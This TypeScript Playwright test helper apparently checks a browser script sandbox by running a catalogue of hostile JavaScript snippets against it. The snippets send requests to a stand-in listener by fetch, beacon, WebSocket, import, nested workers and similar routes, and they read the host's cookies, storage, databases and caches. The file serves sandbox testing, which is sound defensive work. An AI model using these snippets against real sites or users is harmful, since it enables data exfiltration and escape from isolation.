import { expect, type Page } from "@playwright/test";
import type { Embedding } from "../embedding.ts";

/**
 * What a hostile script tries: each is the body of an async function that returns something true if it has reached what it is after.
 * `L` is the address of a server that listens for any request, `H` that of the host; what is read of the host has "secret" in it.
 * Requests that the listener hears count whatever a body returns.
 */

/** Runs a text in a worker of its own, and waits for what it posts. */
const nested = (text: string, options = ""): string => `
  const url = URL.createObjectURL(new Blob([${JSON.stringify(text)}.replaceAll("$L", L).replaceAll("$H", H)], { type: "text/javascript" }));
  const worker = new Worker(url${options});
  return new Promise((resolve, reject) => { worker.onmessage = (e) => resolve(e.data); worker.onerror = reject; });`;

export const attacks: Readonly<Record<string, string>> = {
  // Requests to a server of the attacker's.
  fetch: `return (await fetch(L + "fetch")).text();`,
  "fetch without cors": `return fetch(L + "no-cors", { mode: "no-cors", method: "POST", body: "x" });`,
  "fetch that outlives": `return fetch(L + "keepalive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" });`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", L + "xhr");
    return new Promise((resolve, reject) => { x.onload = () => resolve(x.responseText); x.onerror = reject; x.send(); });`,
  "XMLHttpRequest that waits": `const x = new XMLHttpRequest(); x.open("GET", L + "sync", false); x.send(); return x.responseText;`,
  WebSocket: `const s = new WebSocket(L.replace("http", "ws") + "socket"); return new Promise((resolve, reject) => { s.onopen = () => resolve(1); s.onerror = reject; });`,
  WebSocketStream: `return new WebSocketStream(L.replace("http", "ws") + "socket-stream").opened;`,
  EventSource: `const s = new EventSource(L + "events"); return new Promise((resolve, reject) => { s.onopen = () => resolve(1); s.onerror = reject; });`,
  beacon: `return navigator.sendBeacon(L + "beacon", "x");`,
  import: `return (await import(L + "module.js")).default;`,
  "import of a text that imports": `return (await import(URL.createObjectURL(new Blob(['export { default } from "' + L + 'module.js?text"'], { type: "text/javascript" })))).default;`,
  "import of a data address": `return (await import("data:text/javascript,export { default } from '" + L + "module.js?data'")).default;`,
  importScripts: `globalThis.importScripts(L + "script.js"); return globalThis.heard;`,
  "importScripts from a text": nested('importScripts("$Lscript.js?nested"); postMessage(self.heard);'),
  "a worker of another site": `const w = new Worker(L + "worker.js"); return new Promise((resolve, reject) => { w.onmessage = resolve; w.onerror = reject; });`,
  "a worker that fetches": nested('fetch("$Lnested").then((r) => r.text()).then(postMessage)'),
  "a worker as a module": nested('import "$Lmodule.js?nested"; postMessage(1)', ', { type: "module" }'),
  "a worker in a worker": nested(
    `const w = new Worker(URL.createObjectURL(new Blob(['fetch("$Lnested-twice").then((r) => r.text()).then(postMessage)']))); w.onmessage = (e) => postMessage(e.data)`,
  ),
  "a worker from a data address": `const w = new Worker("data:text/javascript,fetch('" + L + "data-worker').then((r) => r.text()).then(postMessage)");
    return new Promise((resolve, reject) => { w.onmessage = (e) => resolve(e.data); w.onerror = reject; });`,
  "a worker that waits for its request": nested(
    'const x = new XMLHttpRequest(); x.open("GET", "$Lnested-sync", false); x.send(); postMessage(x.responseText)',
  ),
  WebTransport: `return new WebTransport(L.replace("http:", "https:") + "transport").ready;`,
  RTCPeerConnection: `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(L).host }] }); c.createDataChannel("x"); await c.setLocalDescription(); return 1;`,
  "a font": `const f = new FontFace("x", "url(" + L + "font.woff2)"); self.fonts.add(f); await f.load(); return 1;`,
  "a redirect of the host": `return (await fetch(H + "redirect")).text();`,
  "a stylesheet's worklet": `return CSS.paintWorklet.addModule(L + "worklet.js");`,
  "wasm that streams": `return WebAssembly.instantiateStreaming(fetch(L + "wasm"));`,
  "code from text": `return await new Function("L", "return fetch(L + 'from-text').then((r) => r.text())")(L);`,
  "a compiled import": `return (await (0, eval)("(url) => import(url)")(L + "module.js?eval")).default;`,
  "a background fetch": `return self.registration.backgroundFetch.fetch("x", L + "background");`,
  "the frame of an old name": `return globalThis.open(L + "window");`,
  // What the host keeps, and what it answers to who has its cookies.
  "the host's pages with its cookies": `return (await (await fetch(H + "cookies", { credentials: "include" })).text()).includes("secret");`,
  "the host's pages, waiting": `const x = new XMLHttpRequest(); x.withCredentials = true; x.open("GET", H + "cookies", false); x.send(); return x.responseText.includes("secret");`,
  "the host's pages by a worker": nested(
    'fetch("$Hcookies", { credentials: "include" }).then((r) => r.text()).then((t) => postMessage(t.includes("secret")))',
  ),
  localStorage: `return localStorage.getItem("secret");`,
  sessionStorage: `return sessionStorage.getItem("secret");`,
  cookie: `return document.cookie.includes("secret");`,
  cookieStore: `return (await cookieStore.getAll()).length > 0;`,
  "names of databases": `return (await indexedDB.databases()).some(({ name }) => name.includes("secret"));`,
  "a database": `return new Promise((resolve, reject) => { const r = indexedDB.open("secret"); r.onerror = reject;
    r.onsuccess = () => { const has = r.result.objectStoreNames.contains("secret"); r.result.close(); resolve(has); }; });`,
  caches: `return (await caches.keys()).includes("secret");`,
  "what a cache answers": `return (await caches.match(H + "secret"))?.text();`,
  "private files": `return (await navigator.storage.getDirectory()).getFileHandle("secret");`,
  "the old file system": `return new Promise((resolve, reject) => webkitRequestFileSystem(TEMPORARY, 1, resolve, reject));`,
  "the old file system, waiting": `return webkitRequestFileSystemSync(TEMPORARY, 1);`,
  "what it may do": `return (await navigator.permissions.query({ name: "notifications" })).state === "granted";`,
  "storage in buckets": `return (await navigator.storageBuckets.keys()).length > 0;`,
  "locks that are held": `return (await navigator.locks.query()).held.some(({ name }) => name === "secret");`,
  "a lock of the host": `return navigator.locks.request("secret", { ifAvailable: true }, (lock) => lock === null);`,
  BroadcastChannel: `const c = new BroadcastChannel("secret"); c.postMessage("ask"); return new Promise((resolve) => { c.onmessage = (e) => resolve(e.data); });`,
  "a shared worker": `const w = new SharedWorker(H + "shared.js"); return new Promise((resolve, reject) => { w.port.onmessage = resolve; w.onerror = reject; });`,
  "a service worker": `return navigator.serviceWorker.getRegistrations();`,
  // What stands around it.
  parent: `return (globalThis.parent ?? globalThis.top ?? globalThis.opener).location.href;`,
  frames: `return globalThis.frames.length;`,
  document: `return document.title;`,
  "its address": `return location.href.includes(new URL(H).host);`,
  "its origin": `return self.origin === new URL(H).origin;`,
  "its creator's port": `globalThis.postMessage({ kind: "begin" }); return 1;`,
  "ending itself": `if (typeof globalThis.close === "function") return 1;`,
  "what the page has loaded": `return performance.getEntriesByType("resource").some(({ name }) => name.includes("page.js"));`,
  credentials: `return navigator.credentials.get({});`,
  notifications: `return Notification.requestPermission();`,
  "usb, serial, hid": `return (navigator.usb ?? navigator.serial ?? navigator.hid).getDevices ? 1 : 0;`,
  "a quota to fill": `return (await navigator.storage.estimate()).quota;`,
};

/** What holds its thread in Firefox, each time or now and then: a worker that is begun, and a quota that is asked for. */
const canHold = (name: string): boolean => name === "a quota to fill" || /worker|importScripts from a text/.test(name);

/**
 * A script that tries attacks, and tells what each came to: `REACHED`, or why not.
 * @param tell a function's text: it is given a name, and what came of it
 * @param inTurn one after the other, and not side by side; then it also tells which one begins
 */
export const attackScript = (
  listener: string,
  host: string,
  tell: string,
  names = Object.keys(attacks),
  inTurn = false,
): string => `
const tell = ${tell};
const L = ${JSON.stringify(listener)}, H = ${JSON.stringify(host)};
const late = () => new Promise((_, reject) => setTimeout(() => reject(new Error("nothing came of it")), ${inTurn ? 1000 : 3000}));
const attacks = {
${names.map((name) => `  ${JSON.stringify(name)}: async () => {${attacks[name]}},`).join("\n")}
};
const attempt = async ([name, attack]) => {
  if (${inTurn}) await tell([name, "HELD"]);
  let came;
  try {
    came = (await Promise.race([attack(), late()])) ? "REACHED" : "nothing";
  } catch (error) {
    came = "no: " + (error?.message ?? error?.type ?? error);
  }
  await tell([name, came]);
};
${inTurn ? "for (const each of Object.entries(attacks)) await attempt(each);" : "await Promise.all(Object.entries(attacks).map(attempt));"}
st.text("the end");
`;

/**
 * Tries all attacks, and says what each came to: `REACHED`, `HELD` (its thread never came back), or why not.
 * In Firefox one after the other, since side by side they come to hold each other up; where one holds its thread there, Stop ends it, and the rest is tried anew.
 * @param mountScript mounts an app of this script, with `tell`
 */
export async function tryAttacks(
  page: Page,
  browser: string,
  listener: string,
  host: string,
  mountScript: (source: string) => Promise<void>,
): Promise<Record<string, string>> {
  const inTurn = browser === "firefox";
  const came: Record<string, string> = {};
  for (let left = Object.keys(attacks); left.length > 0; left = left.filter((name) => !(name in came))) {
    await mountScript(attackScript(listener, host, "st.host.tell", left, inTurn));
    const told = await page.waitForFunction(
      ([patience]) => {
        const { told, heardAt } = globalThis as unknown as Embedding;
        const hasEnded = document.querySelector(".rp-app")?.textContent.includes("the end");
        return (hasEnded || (told.length > 0 && performance.now() - heardAt > patience)) && told;
      },
      [inTurn ? 10_000 : 30_000] as const,
      { timeout: 60_000, polling: 100 },
    );
    Object.assign(came, Object.fromEntries((await told.jsonValue()) as [name: string, came: string][]));
    const held = left.filter((name) => came[name] === "HELD");
    expect(held.filter((name) => !inTurn || !canHold(name))).toEqual([]);
    if (held.length === 0) expect(left.filter((name) => !(name in came))).toEqual([]);
    else {
      const idle = page.locator('.rp-app[data-rp-state="idle"]');
      const replaced = page.getByText("A script did not answer Stop, so its worker was replaced.");
      const stop = page.getByRole("button", { name: "Stop" });
      await stop.click();
      await expect(idle.or(replaced).first()).toBeVisible();
      // Its script then runs once more: a second Stop ends that run, and none follows.
      if (await replaced.isVisible()) await stop.click();
      await expect(idle).toBeVisible();
      await expect(page.locator(".rp-app")).not.toContainText("the end");
    }
  }
  return Object.fromEntries(Object.keys(attacks).map((name) => [name, came[name] ?? "not tried"]));
}
